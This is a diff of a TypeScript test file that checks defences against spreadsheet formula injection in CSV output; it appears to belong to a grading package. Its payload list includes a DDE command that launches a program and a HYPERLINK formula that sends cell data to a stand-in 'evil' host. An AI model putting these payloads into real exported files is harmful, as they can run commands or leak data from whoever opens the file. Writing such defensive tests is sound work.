@@ -12,7 +12,7 @@ const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'
 
 const formulas = [
   '=1+1',
-  '=cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://evil/?x="&A1,"click")',
   '+cmd',
   '+1+1',
@@ -31,7 +31,19 @@ const formulas = [
   '-',
   '--5',
 ];
-const plain = ['-5', '+8613800138000', '-5.25', '007', 'ada=1+1', "o'neil", 'a,b', 'a"b', '","=1+1","', '李=雷', '5%'];
+const plain = [
+  '-5',
+  '+8613800138000',
+  '-5.25',
+  '007',
+  'ada=1+1',
+  "o'neil",
+  'a,b',
+  'a"b',
+  '","=1+1","',
+  '李=雷',
+  '5%',
+];
 
 interface Attack {
   readonly id: string;
@@ -83,7 +95,8 @@ describe('an id that a spreadsheet would run is made harmless (R040)', () => {
   it.for(['FORM-01', 'FORM-03', 'FORM-05', 'FORM-07', 'FORM-09', 'FORM-11', 'FORM-13'])(
     'attack %s does nothing',
     (name, { skip }) => {
-      const attack = attacks.find(({ id }) => id === name) ?? skip('attacks.jsonl is not beside the reference data');
+      const attack =
+        attacks.find(({ id }) => id === name) ?? skip('attacks.jsonl is not beside the reference data');
       const id = attack.payload.trim();
       const expected = starts.includes(id.charAt(0)) ? `'${id}` : id;
       expect(cells).toContain(expected);
@@ -117,7 +130,8 @@ describe('the file of rejected rows is as harmless (R005–R008, R040)', () => {
   it('where the value, the column’s name or the file’s name is a formula', async () => {
     const { rejects } = await gradeFiles({
       orders: {
-        '=1+1.csv': 'customer_id,ordered_at,=HYPERLINK(1)\nada,2026-01-01,=1+1\nbob,2026-01-01,-5x\neve,2026-01-01,2\n',
+        '=1+1.csv':
+          'customer_id,ordered_at,=HYPERLINK(1)\nada,2026-01-01,=1+1\nbob,2026-01-01,-5x\neve,2026-01-01,2\n',
       },
       args: ['--map', 'amount==HYPERLINK(1)'],
     });
